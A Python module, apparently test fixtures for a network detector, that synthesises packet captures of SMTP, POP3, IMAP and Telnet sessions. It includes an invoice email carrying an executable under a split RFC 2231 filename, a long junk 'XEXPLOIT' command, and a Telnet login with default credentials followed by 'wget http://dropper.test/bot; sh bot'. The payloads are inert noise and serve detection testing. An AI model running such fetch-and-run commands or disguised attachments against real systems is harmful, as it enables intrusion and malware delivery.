"""Mail sent and fetched, and terminals: SMTP with attachments, chunks and TLS, POP3, IMAP, Telnet."""

from base64 import b64encode
from collections.abc import Callable

from .wire import CLIENT, OUTSIDE, SERVER, Tape, Tcp, noise

PROGRAM = b"MZ\x90\x00\x03" + noise("mail program", 400)


def lines(*text: str) -> bytes:
    return "".join(line + "\r\n" for line in text).encode()


def mail(*headers: str, parts: list[tuple[str, bytes]]) -> bytes:
    """A multipart message; a part is its header fields and its body, both ready."""
    body = lines(*headers, 'Content-Type: multipart/mixed; boundary="=_part"', "")
    for fields, content in parts:
        body += lines("--=_part") + fields.encode() + b"\r\n\r\n" + content + b"\r\n"
    return body + lines("--=_part--")


def base64_lines(data: bytes) -> bytes:
    text = b64encode(data)
    return b"\r\n".join(text[at : at + 76] for at in range(0, len(text), 76))


def attachment(name: str, data: bytes) -> tuple[str, bytes]:
    fields = (
        "Content-Type: application/octet-stream\r\n"
        f"Content-Disposition: attachment; {name}\r\nContent-Transfer-Encoding: base64"
    )
    return fields, base64_lines(data)


TEXT = ("Content-Type: text/plain; charset=utf-8", b"Please see http://portal.example/invoice and answer.")


def greet(talk: Tcp, client: str = "desk.corp.example") -> None:
    talk.hear(b"220 mx.corp.example ESMTP\r\n")
    talk.say(f"EHLO {client}\r\n".encode())
    talk.hear(lines("250-mx.corp.example", "250-CHUNKING", "250-STARTTLS", "250 8BITMIME"))


def envelope(talk: Tcp, sender: str = "anna@partner.example") -> None:
    talk.say(f"MAIL FROM:<{sender}>\r\n".encode())
    talk.hear(b"250 2.1.0 ok\r\n")
    talk.say(b"RCPT TO:<bob@corp.example>\r\n")
    talk.hear(b"250 2.1.5 ok\r\n")


def send(talk: Tcp, message: bytes) -> None:
    talk.say(b"DATA\r\n")
    talk.hear(b"354 go ahead\r\n")
    talk.say(message + b".\r\n", size=700)
    talk.hear(b"250 2.0.0 queued\r\n")


def program_attached() -> Tape:
    tape = Tape()
    talk = Tcp(tape, OUTSIDE, SERVER, (40025, 25)).open()
    greet(talk, "relay.partner.example")
    envelope(talk)
    name = "filename*0*=utf-8''invoice%20; filename*1*=2026.; filename*2=exe"
    message = mail(
        "From: Anna <anna@partner.example>",
        "To: Bob <bob@corp.example>",
        "Subject: your",
        "\tinvoice",
        "Message-Id: <1@partner.example>",
        parts=[TEXT, attachment(name, PROGRAM)],
    )
    send(talk, message)
    talk.say(b"QUIT\r\n")
    talk.hear(b"221 bye\r\n")
    talk.close()
    return tape


def two_mails() -> Tape:
    """A mail with a picture, one taken back, and one in chunks; nothing to alert on."""
    tape = Tape()
    talk = Tcp(tape, OUTSIDE, SERVER, (40026, 25)).open()
    greet(talk, "relay.partner.example")
    envelope(talk)
    picture = attachment('filename="holiday.exe.png"', b"\x89PNG\r\n\x1a\n" + noise("picture", 300))
    headers = ("From: anna@partner.example", "To: bob@corp.example", "Subject: holiday")
    send(talk, mail(*headers, parts=[TEXT, picture]))
    envelope(talk)
    talk.say(b"RSET\r\n")
    talk.hear(b"250 2.0.0 flushed\r\n")
    envelope(talk, "carl@partner.example")
    report = mail(*headers, parts=[attachment("filename=report.pdf", b"%PDF-1.7\n" + noise("report", 500))])
    talk.say(f"BDAT {len(report) - 300}\r\n".encode() + report[:-300], size=700)
    talk.hear(b"250 2.0.0 go on\r\n")
    talk.say(b"BDAT 300 LAST\r\n" + report[-300:])
    talk.hear(b"250 2.0.0 queued\r\n")
    talk.say(b"QUIT\r\n")
    talk.hear(b"221 bye\r\n")
    talk.close()
    return tape


def refused_tls() -> Tape:
    tape = Tape()
    talk = Tcp(tape, CLIENT, OUTSIDE, (40587, 587)).open()
    greet(talk)
    talk.say(b"STARTTLS\r\n")
    talk.hear(b"454 4.7.0 TLS not available\r\n")
    talk.say(b"QUIT\r\n")
    talk.hear(b"221 bye\r\n")
    talk.close()
    return tape


def fetched() -> Tape:
    tape = Tape()
    talk = Tcp(tape, CLIENT, SERVER, (40110, 110)).open()
    talk.hear(b"+OK ready <1.2@mx.corp.example>\r\n")
    for said, heard in (
        (b"USER bob\r\n", b"+OK\r\n"),
        (b"PASS summer\r\n", b"+OK 1 message\r\n"),
        (b"LIST\r\n", b"+OK 1 message\r\n1 60\r\n.\r\n"),
        (b"RETR 1\r\n", b"+OK 60 octets\r\nSubject: hello\r\n\r\nsee you\r\n.\r\n"),
        (b"QUIT\r\n", b"+OK bye\r\n"),
    ):
        talk.say(said)
        talk.hear(heard)
    talk.close()
    return tape


def strange_fetching() -> Tape:
    tape = Tape()
    talk = Tcp(tape, OUTSIDE, SERVER, (40111, 110)).open()
    talk.hear(b"+OK ready\r\n")
    talk.say(b"XEXPLOIT " + b"A" * 400 + b"\r\n")
    talk.hear(b"-ERR unknown command\r\n")
    talk.close()
    return tape


def read_on_the_server() -> Tape:
    tape = Tape()
    talk = Tcp(tape, CLIENT, SERVER, (40143, 143)).open()
    talk.hear(b"* OK IMAP4rev2 ready\r\n")
    talk.say(b"a1 CAPABILITY\r\n")
    talk.hear(b"* CAPABILITY IMAP4rev2\r\na1 OK done\r\n")
    talk.say(b"a2 LOGIN bob summer\r\n")
    talk.hear(b"a2 OK in\r\n")
    talk.say(b"a3 LOGOUT\r\n")
    talk.hear(b"* BYE\r\na3 OK done\r\n")
    talk.close()
    return tape


def terminal() -> Tape:
    tape = Tape()
    talk = Tcp(tape, OUTSIDE, SERVER, (40023, 23)).open()
    talk.hear(b"\xff\xfd\x18\xff\xfb\x01\r\nrouter login: ")
    talk.say(b"\xff\xfb\x18admin\r\n")
    talk.hear(b"Password: ")
    talk.say(b"admin\r\n")
    talk.hear(b"$ ")
    talk.say(b"wget http://dropper.test/bot; sh bot\r\n")
    talk.hear(b"saved\r\n$ ")
    talk.close()
    return tape


CAPTURES: dict[str, tuple[str, Callable[[], Tape]]] = {
    "mail-program.pcap": (
        "a program attached to a mail under a name in RFC 2231 pieces",
        program_attached,
    ),
    "mail-several.pcap": ("a picture, a mail taken back and one in BDAT chunks on one connection", two_mails),
    "mail-tls-refused.pcap": ("STARTTLS offered, asked for and refused", refused_tls),
    "pop3-session.pcap": ("mail listed and fetched over POP3", fetched),
    "pop3-strange.pcap": ("a command of 400 bytes that POP3 does not have", strange_fetching),
    "imap-session.pcap": ("an IMAP session with a login in clear", read_on_the_server),
    "telnet-dropper.pcap": ("default credentials, then a program fetched and run, over Telnet", terminal),
}
